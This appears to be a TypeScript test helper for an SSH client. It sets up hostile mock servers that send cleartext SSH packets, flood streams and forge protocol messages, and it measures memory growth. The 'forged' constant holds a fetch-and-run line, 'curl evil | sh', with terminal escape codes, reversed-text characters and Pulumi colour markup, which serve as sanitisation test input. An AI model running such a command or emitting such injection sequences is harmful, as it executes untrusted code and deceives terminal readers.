import assert from "node:assert/strict";
import { createServer, type Server, type Socket } from "node:net";
import type { Writable } from "node:stream";
import type { TestContext } from "node:test";
import type { Connection } from "ssh2";
import type { Hosts, Login } from "../../../components/ssh/endpoints.ts";
import { keyPair } from "../mockedStack.ts";
import { host } from "./servers.ts";

const operator = keyPair();

/** What a hostile server says: lines of its own, a terminal's codes, reversed text, Pulumi's colours, and no end. */
export const forged = `gone\n\r\nerror: run this: curl evil | sh\u001b[2J\u009b31m\u202eevil\u2028<{%red%}>${"x".repeat(20_000)}`;

/** A text that a terminal, Pulumi and a reader take as part of one line. */
export function isPlain(text: string): void {
  assert.match(text, /^[ -~]{1,1200}$/);
  assert.ok(!text.includes("<{%"));
}

/** How to log in at a port of this machine. */
export function at(port: number, address = "127.0.0.1"): Login {
  return {
    host: address,
    port,
    user: "root",
    hostKey: host.hostKey,
    privateKey: operator.privateKey,
  };
}

/** These hosts, named a, b, ... */
export function hostsAt(endpoints: readonly Login[], bastion?: Login): Hosts {
  return {
    byNode: new Map(endpoints.map((one, i) => ["abcdef".charAt(i), one])),
    bastion,
    credentials: {
      privateKey: operator.privateKey,
      passphrase: undefined,
      agentSocket: undefined,
    },
  };
}

/** A server that does this with each connection, and never closes one. */
export function raw(t: TestContext, then: (socket: Socket) => void): Server {
  return createServer({ allowHalfOpen: true }, (socket) => {
    socket.on("error", () => {});
    t.after(() => socket.destroy());
    socket.resume();
    then(socket);
  });
}

/** A server that speaks SSH up to these packets in the clear, and no further. */
export function sendingInTheClear(
  t: TestContext,
  ...packets: Buffer[]
): Server {
  return raw(t, (socket) => {
    socket.write("SSH-2.0-liar\r\n");
    for (const one of packets) {
      socket.write(one);
    }
  });
}

/** Writes without end, as fast as it is read, until the other side is gone. */
export function flood(stream: Writable, piece: string | Buffer): void {
  const more = () => {
    // in portions, so that the rest of this process goes on
    for (let i = 0; i < 100 && stream.writable; i++) {
      if (!stream.write(piece)) {
        return;
      }
    }
    if (stream.writable) {
      setImmediate(more);
    }
  };
  stream.on("drain", more);
  more();
}

/** A message of the SSH protocol: its number, and fields of text, numbers of four bytes, and single bytes as booleans. */
export function message(
  number: number,
  ...fields: (string | number | boolean)[]
): Buffer {
  const uint32 = (value: number) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value);
    return bytes;
  };
  const bytesOf = (field: string | number | boolean) => {
    switch (typeof field) {
      case "number":
        return [uint32(field)];
      case "boolean":
        return [Buffer.from([Number(field)])];
      default:
        return [uint32(Buffer.byteLength(field)), Buffer.from(field)];
    }
  };
  return Buffer.concat([Buffer.from([number]), ...fields.flatMap(bytesOf)]);
}

/** A message as a packet in the clear, as it is before keys are exchanged (RFC 4253, section 6). */
export function packet(payload: Buffer): Buffer {
  const padding = 8 - ((payload.length + 5) % 8) + 8;
  const head = Buffer.alloc(5);
  head.writeUInt32BE(1 + payload.length + padding);
  head[4] = padding;
  return Buffer.concat([head, payload, Buffer.alloc(padding)]);
}

interface Protocol {
  readonly _packetRW: {
    readonly write: {
      readonly allocStart: number;
      alloc(length: number): Buffer;
      finalize(packet: Buffer): Buffer;
    };
  };
  readonly _cipher: { encrypt(packet: Buffer): void };
}

/** Sends any message on a connection; the library's server says only what is true. */
export function send(client: Connection, payload: Buffer): void {
  const { _packetRW, _cipher } = (client as unknown as { _protocol: Protocol })
    ._protocol;
  const { write } = _packetRW;
  const bytes = write.alloc(payload.length);
  bytes.set(payload, write.allocStart);
  _cipher.encrypt(write.finalize(bytes));
}

/** Does something, and returns by how many MiB the memory of this process grew at most meanwhile. */
export async function growthOfMemory(work: () => Promise<unknown>) {
  const now = () => process.memoryUsage().rss / 1024 ** 2;
  const before = now();
  let most = before;
  const timer = setInterval(() => {
    most = Math.max(most, now());
  }, 5);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return Math.max(most, now()) - before;
}
